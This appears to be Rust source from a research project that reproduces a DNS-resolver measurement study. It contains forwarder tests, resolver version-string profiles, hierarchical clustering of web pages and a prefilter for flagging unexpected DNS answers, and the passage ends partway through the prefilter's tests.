        assert_eq!(d.src_ip, fwd_ip);
        let msg = Message::decode(&d.payload).unwrap();
        assert_eq!(msg.header.id, 0xABCD);
        assert_eq!(msg.answer_ips(), vec![ip("198.51.100.9")]);
    }

    #[test]
    fn leaky_forwarder_produces_source_mismatch() {
        let (mut net, fwd_ip) = setup(true);
        let client = ip("100.0.0.1");
        let sock = net.open_socket(client, 41_001);
        let q = MessageBuilder::query(0x7777, Name::parse("fwd.example").unwrap(), RecordType::A)
            .build();
        net.send_udp(Datagram::new(client, 41_001, fwd_ip, 53, q.encode()));
        net.run_until(netsim::SimTime::from_secs(5));
        let got = net.recv_all(sock);
        assert_eq!(got.len(), 1);
        let (_, d) = &got[0];
        // The upstream answered the client directly: source mismatch —
        // exactly the Sec. 2.2 multi-homed/proxy observation.
        assert_eq!(d.src_ip, ip("20.0.0.53"));
        assert_ne!(d.src_ip, fwd_ip);
        let msg = Message::decode(&d.payload).unwrap();
        assert_eq!(msg.header.id, 0x7777);
        assert_eq!(msg.answer_ips(), vec![ip("198.51.100.9")]);
    }

    #[test]
    fn forwarder_ignores_garbage_and_unsolicited_responses() {
        let (mut net, fwd_ip) = setup(false);
        let client = ip("100.0.0.1");
        let sock = net.open_socket(client, 41_002);
        // Garbage payload.
        net.send_udp(Datagram::new(client, 41_002, fwd_ip, 53, &b"\xff\x00"[..]));
        // Unsolicited response (no pending entry).
        let q = MessageBuilder::query(0x9999, Name::parse("fwd.example").unwrap(), RecordType::A)
            .build();
        let r = MessageBuilder::response_to(&q, dnswire::Rcode::NoError).build();
        net.send_udp(Datagram::new(client, 41_002, fwd_ip, 53, r.encode()));
        net.run_until(netsim::SimTime::from_secs(3));
        assert!(net.recv_all(sock).is_empty());
    }

    #[test]
    fn pending_table_is_bounded() {
        let mut fwd = ForwarderHost::new(ip("20.0.0.53"));
        let mut outgoing = Vec::new();
        for i in 0..(MAX_PENDING as u16 + 50) {
            let q =
                MessageBuilder::query(i, Name::parse("x.example").unwrap(), RecordType::A).build();
            let d = Datagram::new(ip("100.0.0.1"), 40_000, ip("5.5.5.5"), 53, q.encode());
            let mut ctx = HostCtx::new(SimTime::ZERO, ip("5.5.5.5"), &mut outgoing);
            fwd.on_udp(&mut ctx, &d);
        }
        assert!(fwd.pending.len() <= MAX_PENDING);
        assert_eq!(fwd.forwarded, MAX_PENDING as u64 + 50);
    }
}
