//! DNS server software profiles — what a CHAOS `version.bind` /
//! `version.server` scan sees (Section 2.4, Table 3).

use dnswire::Rcode;
use serde::{Deserialize, Serialize};

/// How a resolver answers CHAOS version queries. The paper's shares (of
/// 19.9M responding resolvers): 42.7% error for both queries, 4.6%
/// NOERROR with no version, 18.8% administrator-overridden strings,
/// 33.9% genuine software versions.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum ChaosPolicy {
    /// REFUSED or SERVFAIL for both version queries.
    Error(ChaosErrorKind),
    /// NOERROR with an empty answer section.
    EmptyAnswer,
    /// An administrator-configured string hiding the software.
    Custom(String),
    /// The genuine version string.
    Genuine,
}

/// Which error code the resolver uses for CHAOS queries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ChaosErrorKind {
    /// Answers REFUSED.
    Refused,
    /// Answers SERVFAIL.
    ServFail,
}

impl ChaosErrorKind {
    /// The corresponding response code.
    pub fn rcode(self) -> Rcode {
        match self {
            ChaosErrorKind::Refused => Rcode::Refused,
            ChaosErrorKind::ServFail => Rcode::ServFail,
        }
    }
}

/// A concrete DNS server software + version, with the CVE exposure notes
/// the paper reports in Table 3.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SoftwareProfile {
    /// Vendor family, e.g. `"BIND"`.
    pub family: String,
    /// Version string as emitted in `version.bind`, e.g. `"9.8.2"`.
    pub version: String,
    /// CVE exposure classes (informational; reproduced in Table 3).
    pub cve_classes: Vec<String>,
    /// How this instance answers CHAOS queries.
    pub chaos: ChaosPolicy,
}

impl SoftwareProfile {
    /// A profile with no CVE annotations.
    pub fn new(family: &str, version: &str, chaos: ChaosPolicy) -> Self {
        SoftwareProfile {
            family: family.to_string(),
            version: version.to_string(),
            cve_classes: Vec::new(),
            chaos,
        }
    }

    /// The string a `version.bind` TXT answer carries, if any.
    pub fn version_bind_answer(&self) -> Option<String> {
        match &self.chaos {
            ChaosPolicy::Genuine => Some(format!("{} {}", self.family, self.version)),
            ChaosPolicy::Custom(s) => Some(s.clone()),
            _ => None,
        }
    }

    /// Canonical key for Table 3 aggregation, e.g. `"BIND 9.8.2"`.
    pub fn table_key(&self) -> String {
        format!("{} {}", self.family, self.version)
    }
}

/// The Table 3 Top-10 software versions with their within-leakers shares
/// (the percentages are of resolvers that returned genuine versions).
pub const TABLE3_SOFTWARE: &[(&str, &str, f64, &str)] = &[
    ("BIND", "9.8.2", 0.198, "IP Bypass, DoS, Mem. Corr./Leak."),
    ("BIND", "9.3.6", 0.089, "DoS"),
    ("BIND", "9.7.3", 0.057, "Mem. Overfl., DoS"),
    ("BIND", "9.9.5", 0.052, "DoS"),
    ("Unbound", "1.4.22", 0.048, "Mem. Overfl., DoS"),
    ("Dnsmasq", "2.40", 0.046, "RCE, DoS"),
    ("BIND", "9.8.4", 0.039, "IP Bypass, DoS"),
    ("PowerDNS", "3.5.3", 0.032, "Mem. Overfl."),
    ("Dnsmasq", "2.52", 0.029, "DoS"),
    ("MS DNS", "6.1.7601", 0.025, "DoS"),
];

/// Long-tail versions filling the remaining ~38.5% of leakers, chosen so
/// BIND's overall share lands near the paper's 60.2%.
pub const TAIL_SOFTWARE: &[(&str, &str, f64)] = &[
    ("BIND", "9.9.4", 0.060),
    ("BIND", "9.4.2", 0.045),
    ("BIND", "9.2.4", 0.035),
    ("BIND", "9.10.1", 0.027),
    ("Dnsmasq", "2.45", 0.050),
    ("Dnsmasq", "2.62", 0.040),
    ("Unbound", "1.4.20", 0.035),
    ("PowerDNS", "3.3", 0.030),
    ("MS DNS", "6.0.6002", 0.025),
    ("Nominum Vantio", "5.4.1", 0.020),
    ("ZyWALL DNS", "1.0", 0.018),
];

/// CHAOS policy shares over *all* responding resolvers (Sec. 2.4).
#[derive(Debug, Clone, Copy)]
pub struct ChaosMix {
    /// Share answering errors for both queries.
    pub error: f64,
    /// Share answering NOERROR with no version.
    pub empty: f64,
    /// Share answering administrator strings.
    pub custom: f64,
    /// Share leaking the genuine version.
    pub genuine: f64,
}

/// The paper's observed mix.
pub const PAPER_CHAOS_MIX: ChaosMix = ChaosMix {
    error: 0.427,
    empty: 0.046,
    custom: 0.188,
    genuine: 0.339,
};

/// Administrator strings used for the "arbitrary version strings"
/// population.
pub const CUSTOM_STRINGS: &[&str] = &[
    "none of your business",
    "unknown",
    "dns",
    "get lost",
    "mind your own zone",
    "secured",
    "contact admin@example",
    "surely you must be joking",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn genuine_answer_carries_family_and_version() {
        let p = SoftwareProfile::new("BIND", "9.8.2", ChaosPolicy::Genuine);
        assert_eq!(p.version_bind_answer().unwrap(), "BIND 9.8.2");
        assert_eq!(p.table_key(), "BIND 9.8.2");
    }

    #[test]
    fn custom_answer_hides_software() {
        let p = SoftwareProfile::new("BIND", "9.8.2", ChaosPolicy::Custom("unknown".into()));
        assert_eq!(p.version_bind_answer().unwrap(), "unknown");
    }

    #[test]
    fn error_and_empty_answer_nothing() {
        for chaos in [
            ChaosPolicy::Error(ChaosErrorKind::Refused),
            ChaosPolicy::Error(ChaosErrorKind::ServFail),
            ChaosPolicy::EmptyAnswer,
        ] {
            let p = SoftwareProfile::new("BIND", "9.8.2", chaos);
            assert!(p.version_bind_answer().is_none());
        }
    }

    #[test]
    fn table3_shares_sum_below_one() {
        let sum: f64 = TABLE3_SOFTWARE.iter().map(|(_, _, s, _)| s).sum();
        assert!((0.60..0.63).contains(&sum), "top-10 shares sum to {sum}");
        let tail: f64 = TAIL_SOFTWARE.iter().map(|(_, _, s)| s).sum();
        assert!((sum + tail - 1.0).abs() < 0.01, "total {}", sum + tail);
    }

    #[test]
    fn bind_overall_share_near_paper() {
        let bind: f64 = TABLE3_SOFTWARE
            .iter()
            .filter(|(f, _, _, _)| *f == "BIND")
            .map(|(_, _, s, _)| s)
            .chain(
                TAIL_SOFTWARE
                    .iter()
                    .filter(|(f, _, _)| *f == "BIND")
                    .map(|(_, _, s)| s),
            )
            .sum();
        assert!(
            (0.57..0.63).contains(&bind),
            "BIND share {bind} vs paper 0.602"
        );
    }

    #[test]
    fn chaos_mix_sums_to_one() {
        let m = PAPER_CHAOS_MIX;
        assert!((m.error + m.empty + m.custom + m.genuine - 1.0).abs() < 1e-9);
    }
}
