//! Agglomerative hierarchical clustering (Sec. 3.6).
//!
//! Coarse-grained: UPGMA (average linkage) over the seven-feature page
//! distance, implemented with the nearest-neighbor-chain algorithm —
//! O(n²) time and memory, exact for reducible linkages like UPGMA.
//!
//! Fine-grained: the same machinery over Jaccard distances between
//! added/removed-tag multisets (page *modifications* relative to ground
//! truth).

use htmlsim::diff::TagDelta;
use htmlsim::distance::{jaccard_multiset, page_distance, FeatureWeights};
use htmlsim::PageFeatures;
use rayon::prelude::*;
use serde::{Deserialize, Serialize};

/// Linkage criterion. The paper uses average linkage (UPGMA); single and
/// complete are provided for the A-ABL2 ablation. All three are
/// *reducible*, so the nearest-neighbor-chain algorithm is exact.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Linkage {
    /// Minimum pairwise distance.
    Single,
    /// Maximum pairwise distance.
    Complete,
    /// Size-weighted mean distance (UPGMA — the paper's choice).
    Average,
}

/// A merge tree. Leaves are `0..n_leaves`; the `i`-th merge creates
/// internal node `n_leaves + i`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Dendrogram {
    /// Number of leaves.
    pub n_leaves: usize,
    /// `(node_a, node_b, linkage_distance)` in merge order.
    pub merges: Vec<(usize, usize, f64)>,
}

/// A flat clustering produced by cutting a dendrogram.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FlatClusters {
    /// `assignment[leaf] = cluster id` (dense, 0-based).
    pub assignment: Vec<usize>,
    /// Members per cluster.
    pub clusters: Vec<Vec<usize>>,
}

impl FlatClusters {
    /// Number of clusters.
    pub fn len(&self) -> usize {
        self.clusters.len()
    }

    /// Whether there are no clusters.
    pub fn is_empty(&self) -> bool {
        self.clusters.is_empty()
    }

    /// The largest cluster's members.
    pub fn largest(&self) -> Option<&Vec<usize>> {
        self.clusters.iter().max_by_key(|c| c.len())
    }
}

/// Exact UPGMA via the nearest-neighbor-chain algorithm over a
/// precomputed condensed distance matrix.
///
/// `dist` must be a symmetric `n × n` row-major matrix (the diagonal is
/// ignored). Consumes the matrix as scratch space.
pub fn agglomerate(n: usize, dist: Vec<f32>, size_hint: Option<Vec<u32>>) -> Dendrogram {
    agglomerate_with(n, dist, size_hint, Linkage::Average)
}

/// [`agglomerate`] with an explicit linkage criterion.
pub fn agglomerate_with(
    n: usize,
    mut dist: Vec<f32>,
    mut size_hint: Option<Vec<u32>>,
    linkage: Linkage,
) -> Dendrogram {
    assert_eq!(dist.len(), n * n, "distance matrix shape");
    if n == 0 {
        return Dendrogram {
            n_leaves: 0,
            merges: Vec::new(),
        };
    }
    let mut active: Vec<bool> = vec![true; n];
    let mut sizes: Vec<u32> = size_hint.take().unwrap_or_else(|| vec![1; n]);
    let mut node_id: Vec<usize> = (0..n).collect();
    let mut merges: Vec<(usize, usize, f64)> = Vec::with_capacity(n.saturating_sub(1));
    let mut chain: Vec<usize> = Vec::with_capacity(n);
    let mut remaining = n;

    let d = |dist: &Vec<f32>, a: usize, b: usize| dist[a * n + b];

    while remaining > 1 {
        if chain.is_empty() {
            let first = active.iter().position(|&a| a).expect("active cluster");
            chain.push(first);
        }
        loop {
            let a = *chain.last().unwrap();
            // Nearest active neighbor of `a` (preferring the chain
            // predecessor on ties, which guarantees termination).
            let prev = if chain.len() >= 2 {
                Some(chain[chain.len() - 2])
            } else {
                None
            };
            let mut best = usize::MAX;
            let mut best_d = f32::INFINITY;
            for (x, &is_active) in active.iter().enumerate() {
                if x == a || !is_active {
                    continue;
                }
                let dx = d(&dist, a, x);
                if dx < best_d || (dx == best_d && Some(x) == prev) {
                    best_d = dx;
                    best = x;
                }
            }
            debug_assert_ne!(best, usize::MAX);
            if Some(best) == prev {
                // Mutual nearest neighbors: merge a and best.
                let b = best;
                chain.pop();
                chain.pop();
                let (sa, sb) = (sizes[a] as f64, sizes[b] as f64);
                // Record the merge under stable node ids.
                let new_id = 2 * n - remaining; // n_leaves + merges.len()
                merges.push((node_id[a], node_id[b], best_d as f64));
                // Lance-Williams update into slot `a`.
                for x in 0..n {
                    if x == a || x == b || !active[x] {
                        continue;
                    }
                    let dax = d(&dist, a, x) as f64;
                    let dbx = d(&dist, b, x) as f64;
                    let nd = match linkage {
                        Linkage::Average => ((sa * dax + sb * dbx) / (sa + sb)) as f32,
                        Linkage::Single => dax.min(dbx) as f32,
                        Linkage::Complete => dax.max(dbx) as f32,
                    };
                    dist[a * n + x] = nd;
                    dist[x * n + a] = nd;
                }
                active[b] = false;
                sizes[a] += sizes[b];
                node_id[a] = new_id;
                remaining -= 1;
                break;
            }
            chain.push(best);
        }
    }
    Dendrogram {
        n_leaves: n,
        merges,
    }
}

impl Dendrogram {
    /// Cut at `threshold`: leaves joined by merges with linkage distance
    /// ≤ threshold end up in the same flat cluster.
    pub fn cut(&self, threshold: f64) -> FlatClusters {
        let n = self.n_leaves;
        let total = n + self.merges.len();
        let mut parent: Vec<usize> = (0..total).collect();
        fn find(parent: &mut [usize], mut x: usize) -> usize {
            while parent[x] != x {
                parent[x] = parent[parent[x]];
                x = parent[x];
            }
            x
        }
        for (i, &(a, b, dist)) in self.merges.iter().enumerate() {
            let node = n + i;
            if dist <= threshold {
                let ra = find(&mut parent, a);
                let rb = find(&mut parent, b);
                parent[ra] = node;
                parent[rb] = node;
            }
        }
        let mut cluster_of_root: std::collections::HashMap<usize, usize> =
            std::collections::HashMap::new();
        let mut assignment = vec![0usize; n];
        let mut clusters: Vec<Vec<usize>> = Vec::new();
        for (leaf, slot) in assignment.iter_mut().enumerate() {
            let root = find(&mut parent, leaf);
            let id = *cluster_of_root.entry(root).or_insert_with(|| {
                clusters.push(Vec::new());
                clusters.len() - 1
            });
            *slot = id;
            clusters[id].push(leaf);
        }
        FlatClusters {
            assignment,
            clusters,
        }
    }
}

/// Build the page distance matrix in parallel.
fn page_matrix(items: &[PageFeatures], weights: &FeatureWeights) -> Vec<f32> {
    let n = items.len();
    let mut dist = vec![0f32; n * n];
    let rows: Vec<Vec<f32>> = (0..n)
        .into_par_iter()
        .map(|i| {
            let mut row = vec![0f32; n];
            for j in (i + 1)..n {
                row[j] = page_distance(&items[i], &items[j], weights) as f32;
            }
            row
        })
        .collect();
    for (i, row) in rows.into_iter().enumerate() {
        for (j, v) in row.into_iter().enumerate().skip(i + 1) {
            dist[i * n + j] = v;
            dist[j * n + i] = v;
        }
    }
    dist
}

/// Coarse-grained clustering of page feature vectors; cut at
/// `threshold`. Uses average linkage, as the paper does.
pub fn cluster_pages(
    items: &[PageFeatures],
    weights: &FeatureWeights,
    threshold: f64,
) -> FlatClusters {
    cluster_pages_with(items, weights, threshold, Linkage::Average)
}

/// [`cluster_pages`] with an explicit linkage (A-ABL2).
pub fn cluster_pages_with(
    items: &[PageFeatures],
    weights: &FeatureWeights,
    threshold: f64,
    linkage: Linkage,
) -> FlatClusters {
    let dist = page_matrix(items, weights);
    agglomerate_with(items.len(), dist, None, linkage).cut(threshold)
}

/// Fine-grained clustering of tag deltas by Jaccard distance over their
/// add/remove multisets; cut at `threshold`.
pub fn fine_cluster(deltas: &[TagDelta], threshold: f64) -> FlatClusters {
    let n = deltas.len();
    let sets: Vec<_> = deltas.iter().map(|d| d.as_multiset()).collect();
    let mut dist = vec![0f32; n * n];
    for i in 0..n {
        for j in (i + 1)..n {
            let v = jaccard_multiset(&sets[i], &sets[j]) as f32;
            dist[i * n + j] = v;
            dist[j * n + i] = v;
        }
    }
    agglomerate(n, dist, None).cut(threshold)
}

#[cfg(test)]
mod tests {
    use super::*;
    use htmlsim::gen::{self, PageCtx};
    use htmlsim::TagInterner;

    fn matrix_from(points: &[(f64, f64)]) -> Vec<f32> {
        let n = points.len();
        let mut m = vec![0f32; n * n];
        for i in 0..n {
            for j in 0..n {
                let dx = points[i].0 - points[j].0;
                let dy = points[i].1 - points[j].1;
                m[i * n + j] = ((dx * dx + dy * dy).sqrt()) as f32;
            }
        }
        m
    }

    #[test]
    fn two_obvious_blobs() {
        let pts = [
            (0.0, 0.0),
            (0.1, 0.0),
            (0.0, 0.1),
            (10.0, 10.0),
            (10.1, 10.0),
            (10.0, 10.1),
        ];
        let dendro = agglomerate(6, matrix_from(&pts), None);
        assert_eq!(dendro.merges.len(), 5);
        let flat = dendro.cut(1.0);
        assert_eq!(flat.len(), 2);
        assert_eq!(flat.assignment[0], flat.assignment[1]);
        assert_eq!(flat.assignment[3], flat.assignment[4]);
        assert_ne!(flat.assignment[0], flat.assignment[3]);
    }

    #[test]
    fn cut_extremes() {
        let pts = [(0.0, 0.0), (1.0, 0.0), (2.0, 0.0), (3.0, 0.0)];
        let dendro = agglomerate(4, matrix_from(&pts), None);
        assert_eq!(dendro.cut(0.0).len(), 4, "zero cut = singletons");
        assert_eq!(dendro.cut(100.0).len(), 1, "infinite cut = one cluster");
    }

    #[test]
    fn average_linkage_merge_heights_monotone_enough() {
        // UPGMA on a line: merge distances are nondecreasing for
        // well-separated data.
        let pts: Vec<(f64, f64)> = (0..8).map(|i| (i as f64 * (i as f64), 0.0)).collect();
        let dendro = agglomerate(8, matrix_from(&pts), None);
        for w in dendro.merges.windows(2) {
            assert!(w[1].2 >= w[0].2 - 1e-9, "heights {:?}", dendro.merges);
        }
    }

    #[test]
    fn singleton_and_empty() {
        let d0 = agglomerate(0, vec![], None);
        assert_eq!(d0.merges.len(), 0);
        assert_eq!(d0.cut(1.0).len(), 0);
        let d1 = agglomerate(1, vec![0.0], None);
        assert_eq!(d1.merges.len(), 0);
        let flat = d1.cut(1.0);
        assert_eq!(flat.len(), 1);
    }

    #[test]
    fn page_families_separate() {
        let mut interner = TagInterner::new();
        let mut items = Vec::new();
        // 5 router logins, 5 error pages, 5 parking pages.
        for s in 0..5u64 {
            items.push(PageFeatures::extract(
                &gen::router_login(gen::RouterVendor::ZyRouter, &PageCtx::new("r.local", s)),
                &mut interner,
            ));
        }
        for s in 0..5u64 {
            items.push(PageFeatures::extract(
                &gen::http_error(404, &PageCtx::new("e.example", s * 3)),
                &mut interner,
            ));
        }
        for s in 0..5u64 {
            items.push(PageFeatures::extract(
                &gen::parking_page("parkco", &PageCtx::new(&format!("d{s}.example"), s)),
                &mut interner,
            ));
        }
        let flat = cluster_pages(&items, &FeatureWeights::default(), 0.35);
        // Router pages must share a cluster, and never share with parking.
        assert_eq!(flat.assignment[0], flat.assignment[4]);
        assert_eq!(flat.assignment[10], flat.assignment[14]);
        assert_ne!(flat.assignment[0], flat.assignment[10]);
        // Each family in its own cluster(s): 3–6 clusters total is sane
        // (error pages have several idioms).
        assert!((3..=7).contains(&flat.len()), "clusters: {}", flat.len());
    }

    #[test]
    fn fine_clustering_groups_same_modification() {
        use htmlsim::diff::tag_delta;
        let gt = [0u16, 1, 2, 8, 8, 8, 11];
        // Two pages with a <script> (id 6) injected, one with an <img>
        // (id 12) injected.
        let inj_a = [0u16, 1, 2, 8, 8, 8, 6, 11];
        let inj_b = [0u16, 1, 2, 8, 8, 6, 8, 11];
        let img = [0u16, 1, 2, 8, 8, 8, 12, 11];
        let deltas = vec![
            tag_delta(&gt, &inj_a),
            tag_delta(&gt, &inj_b),
            tag_delta(&gt, &img),
        ];
        let flat = fine_cluster(&deltas, 0.3);
        assert_eq!(flat.assignment[0], flat.assignment[1]);
        assert_ne!(flat.assignment[0], flat.assignment[2]);
    }
}
