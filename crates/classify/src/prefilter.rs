//! DNS-based prefiltering (Sec. 3.4).
//!
//! Filters the vast majority of *legitimate* answers out of the tuple
//! stream without ever risking the loss of a bogus one:
//!
//! * NX domains: NXDOMAIN and empty NOERROR answers are the expected
//!   outcomes — filtered.
//! * Existing domains: every returned address must satisfy either
//!   (i) same-AS membership with a trusted resolution of the domain, or
//!   (ii) a *confirmed* reverse record: the rDNS name resembles the
//!   requested domain **and** its forward A record maps back to the
//!   address (only the domain owner can arrange that).
//! * CDN space that fails both: a later HTTPS-certificate check
//!   ([`PreFilter::certificate_ok`]) rescues addresses presenting a
//!   valid certificate for the domain, or the known default certificate
//!   of a large CDN provider.

use dnswire::Rcode;
use geodb::{GeoDb, RdnsDb};
use netsim::TlsCertificate;
use scanner::TupleObs;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

/// Trusted resolutions: what *our* resolvers say each domain maps to.
/// Built once per scan from multiple vantage regions, mirroring the
/// paper's "we perform a DNS A lookup at (trusted) recursive resolvers".
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct TrustedView {
    /// Domain → trusted A records.
    pub ips: BTreeMap<String, Vec<Ipv4Addr>>,
    /// Domain → whether it should not exist.
    pub nonexistent: BTreeSet<String>,
}

impl TrustedView {
    /// Trusted A records for `domain` (empty if unresolvable).
    pub fn trusted_ips(&self, domain: &str) -> &[Ipv4Addr] {
        self.ips.get(domain).map(|v| v.as_slice()).unwrap_or(&[])
    }
}

/// Verdict for one tuple.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FilterVerdict {
    /// Expected NXDOMAIN / empty answer for a nonexistent domain.
    ExpectedNx,
    /// Error rcode (REFUSED/SERVFAIL/…): no resolution to judge.
    ErrorResponse,
    /// NOERROR with an empty answer section for an existing domain.
    EmptyAnswer,
    /// Every address matched the same-AS rule.
    LegitSameAs,
    /// Every address matched same-AS or confirmed-rDNS.
    LegitRdns,
    /// Unexpected — goes to data acquisition and clustering.
    Unexpected,
}

impl FilterVerdict {
    /// Whether the tuple survives into the unknown set.
    pub fn is_unexpected(self) -> bool {
        self == FilterVerdict::Unexpected
    }
}

/// Forward-confirmation oracle: trusted A lookup of an rDNS name.
pub type ForwardLookup<'a> = Box<dyn Fn(&str) -> Vec<Ipv4Addr> + 'a>;

/// The prefilter. Holds trusted resolutions, their AS sets, and the
/// databases the rules consult.
pub struct PreFilter<'a> {
    trusted: &'a TrustedView,
    geo: &'a GeoDb,
    rdns: &'a RdnsDb,
    /// AS numbers of the trusted resolution per domain (precomputed).
    trusted_asns: BTreeMap<String, BTreeSet<u32>>,
    /// Known default-certificate common names of large CDN providers.
    cdn_default_cns: Vec<String>,
    /// Forward-confirmation oracle: trusted A lookup of an rDNS name.
    forward: ForwardLookup<'a>,
}

impl<'a> PreFilter<'a> {
    /// Build the filter from trusted resolutions and databases.
    pub fn new(
        trusted: &'a TrustedView,
        geo: &'a GeoDb,
        rdns: &'a RdnsDb,
        cdn_default_cns: Vec<String>,
        forward: impl Fn(&str) -> Vec<Ipv4Addr> + 'a,
    ) -> Self {
        let trusted_asns = trusted
            .ips
            .iter()
            .map(|(domain, ips)| {
                let asns = ips.iter().filter_map(|ip| geo.asn(*ip)).collect();
                (domain.clone(), asns)
            })
            .collect();
        PreFilter {
            trusted,
            geo,
            rdns,
            trusted_asns,
            cdn_default_cns,
            forward: Box::new(forward),
        }
    }

    /// Judge one tuple (DNS stage only; certificates come later).
    pub fn judge(&self, domain: &str, obs: &TupleObs) -> FilterVerdict {
        let nonexistent = self.trusted.nonexistent.contains(domain);
        match obs.rcode {
            Rcode::NxDomain => {
                return if nonexistent {
                    FilterVerdict::ExpectedNx
                } else {
                    // NXDOMAIN for an existing domain is itself odd, but
                    // carries no address to analyze; bucket as empty.
                    FilterVerdict::EmptyAnswer
                };
            }
            Rcode::NoError => {}
            _ => return FilterVerdict::ErrorResponse,
        }
        if obs.ips.is_empty() {
            return if nonexistent {
                FilterVerdict::ExpectedNx
            } else {
                FilterVerdict::EmptyAnswer
            };
        }
        if nonexistent {
            // Any address for an NX domain is unexpected by definition.
            return FilterVerdict::Unexpected;
        }

        let trusted_asns = self.trusted_asns.get(domain);
        let mut all_same_as = true;
        let mut all_legit = true;
        for &ip in &obs.ips {
            let same_as = trusted_asns
                .map(|set| self.geo.asn(ip).map(|a| set.contains(&a)).unwrap_or(false))
                .unwrap_or(false);
            if same_as {
                continue;
            }
            all_same_as = false;
            if self.rdns_confirms(domain, ip) {
                continue;
            }
            all_legit = false;
            break;
        }
        if all_same_as {
            FilterVerdict::LegitSameAs
        } else if all_legit {
            FilterVerdict::LegitRdns
        } else {
            FilterVerdict::Unexpected
        }
    }

    /// Rule (ii): the rDNS name of `ip` resembles `domain` and forward-
    /// confirms to `ip`.
    fn rdns_confirms(&self, domain: &str, ip: Ipv4Addr) -> bool {
        let Some(record) = self.rdns.lookup(ip) else {
            return false;
        };
        let record = record.to_ascii_lowercase();
        // "the domain part of the record resembles the requested domain":
        // the record equals the domain or ends with it.
        let resembles = record == domain || record.ends_with(&format!(".{domain}"));
        if !resembles {
            return false;
        }
        (self.forward)(&record).contains(&ip)
    }

    /// Certificate stage (Sec. 3.4, final rule): an address is
    /// considered legitimate if a valid certificate covering `domain`
    /// was served with SNI, or — for large CDN providers — the SNI-less
    /// default certificate is valid and carries a known common name.
    ///
    /// The two rules have different strength: the known-CDN default
    /// certificate identifies the *host* as CDN infrastructure (strong —
    /// a transparent proxy forwards the origin's per-domain certificate
    /// but cannot produce the provider's default cert without its key),
    /// while a valid SNI certificate only proves the *content path* is
    /// authentic — which is also true of TLS-forwarding proxies.
    pub fn certificate_rule(
        &self,
        domain: &str,
        sni_cert: Option<&TlsCertificate>,
        nosni_cert: Option<&TlsCertificate>,
    ) -> Option<CertRule> {
        if let Some(cert) = nosni_cert {
            if cert.valid_chain
                && self
                    .cdn_default_cns
                    .iter()
                    .any(|cn| cn.eq_ignore_ascii_case(&cert.common_name))
            {
                return Some(CertRule::CdnDefault);
            }
        }
        if let Some(cert) = sni_cert {
            if cert.valid_chain && cert.covers(domain) {
                return Some(CertRule::SniValid);
            }
        }
        None
    }

    /// Convenience wrapper over [`PreFilter::certificate_rule`].
    pub fn certificate_ok(
        &self,
        domain: &str,
        sni_cert: Option<&TlsCertificate>,
        nosni_cert: Option<&TlsCertificate>,
    ) -> bool {
        self.certificate_rule(domain, sni_cert, nosni_cert)
            .is_some()
    }
}

/// Which certificate rule validated an address.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum CertRule {
    /// Valid chain covering the domain, served with SNI.
    SniValid,
    /// The known default certificate of a large CDN provider.
    CdnDefault,
}

#[cfg(test)]
mod tests {
    use super::*;
    use geodb::{Country, IpRangeMap, NetBlock, RdnsPattern};

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn tuple(domain_idx: u16, rcode: Rcode, ips: Vec<Ipv4Addr>) -> TupleObs {
        TupleObs {
            resolver_idx: 0,
            resolver_ip: ip("5.5.5.5"),
            domain_idx,
            rcode,
            ips,
            response_ordinal: 0,
            src_ip: ip("5.5.5.5"),
            ns_only: false,
        }
    }

    fn setup() -> (TrustedView, GeoDb, RdnsDb) {
        let mut trusted = TrustedView::default();
        trusted
            .ips
            .insert("bank.example".into(), vec![ip("20.0.0.10")]);
        trusted
            .ips
            .insert("cdn-site.example".into(), vec![ip("30.0.0.1")]);
        trusted.nonexistent.insert("nx.example".into());

        let mut blocks = IpRangeMap::builder();
        blocks
            .insert(
                ip("20.0.0.0"),
                ip("20.0.0.255"),
                NetBlock {
                    country: Country::new("US"),
                    asn: 100,
                    rdns: None,
                },
            )
            .unwrap();
        blocks
            .insert(
                ip("30.0.0.0"),
                ip("30.0.0.255"),
                NetBlock {
                    country: Country::new("US"),
                    asn: 200,
                    rdns: None,
                },
            )
            .unwrap();
        blocks
            .insert(
                ip("40.0.0.0"),
                ip("40.0.0.255"),
                NetBlock {
                    country: Country::new("DE"),
                    asn: 300,
                    rdns: None,
                },
            )
            .unwrap();
        let geo = GeoDb::new(blocks.build(), vec![]);

        let mut patterns = IpRangeMap::builder();
        patterns
            .insert(
                ip("40.0.0.0"),
                ip("40.0.0.127"),
                RdnsPattern::Fixed {
                    name: "mirror.bank.example".into(),
                },
            )
            .unwrap();
        patterns
            .insert(
                ip("40.0.0.128"),
                ip("40.0.0.255"),
                RdnsPattern::Fixed {
                    name: "fake.bank.example".into(),
                },
            )
            .unwrap();
        let rdns = RdnsDb::new(patterns.build(), vec![]);
        (trusted, geo, rdns)
    }

    fn filter<'a>(t: &'a TrustedView, g: &'a GeoDb, r: &'a RdnsDb) -> PreFilter<'a> {
        PreFilter::new(t, g, r, vec!["edge.cdnone.example".into()], |name| {
            // Forward oracle: only the real mirror confirms.
            if name == "mirror.bank.example" {
                vec![ip("40.0.0.5")]
            } else {
                vec![]
            }
        })
    }

    #[test]
    fn same_as_filters() {
        let (t, g, r) = setup();
        let f = filter(&t, &g, &r);
        // Same /24, same AS as trusted → legit.
        let v = f.judge(
            "bank.example",
            &tuple(0, Rcode::NoError, vec![ip("20.0.0.77")]),
        );
        assert_eq!(v, FilterVerdict::LegitSameAs);
    }

    #[test]
    fn foreign_as_unexpected() {
        let (t, g, r) = setup();
        let f = filter(&t, &g, &r);
        let v = f.judge(
            "bank.example",
            &tuple(0, Rcode::NoError, vec![ip("30.0.0.99")]),
        );
        assert_eq!(v, FilterVerdict::Unexpected);
    }

    #[test]
    fn confirmed_rdns_rescues() {
        let (t, g, r) = setup();
